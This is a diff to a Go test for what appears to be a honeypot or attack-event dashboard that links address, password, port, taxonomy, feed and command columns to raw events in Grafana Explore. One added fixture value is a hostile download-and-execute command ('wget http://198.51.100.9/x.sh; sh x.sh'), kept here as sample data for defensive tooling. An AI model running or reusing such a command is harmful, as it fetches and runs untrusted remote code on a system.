@@ -28,11 +28,15 @@ var eventColumns = map[string]struct {
 	"ip":       {query.EventsIncidents, "192.0.2.1", func(f query.Filters) any { return f.IP }, []string{"192.0.2.1"}},
 	"password": {query.EventsLogins, "p@ss w&rd#1%+", func(f query.Filters) any { return f.Password }, "p@ss w&rd#1%+"},
 	"port":     {query.EventsScans, "TCP/22", func(f query.Filters) any { return f.Port }, []int64{22}},
+	"taxonomy": {query.EventsFeeds, "information-gathering", func(f query.Filters) any { return f.Taxonomy }, []string{"information-gathering"}},
+	"feed":     {query.EventsFeeds, "Scan-SSH", func(f query.Filters) any { return f.Feed }, []string{"Scan-SSH"}},
+	"command":  {query.EventsCommands, "wget http://198.51.100.9/x.sh; sh x.sh", func(f query.Filters) any { return f.Command },
+		[]string{"wget http://198.51.100.9/x.sh; sh x.sh"}},
 }
 
-// TestEventsLinks: every address, password and port column of every table panel (the columns
-// its golden answer holds, testdata/frames) links to its raw events in Explore over the
-// dashboard's range, and the query of the link, with Grafana's variables replaced as a data link
+// TestEventsLinks: every address, password, port, taxonomy, feed and command column of every
+// table panel (the columns its golden answer holds, testdata/frames) links to its raw events in
+// Explore over the dashboard's range, and the query of the link, with Grafana's variables replaced as a data link
 // does (the cell percent-encoded), is an events query for that value; no other column links so.
 func TestEventsLinks(t *testing.T) {
 	var linked int
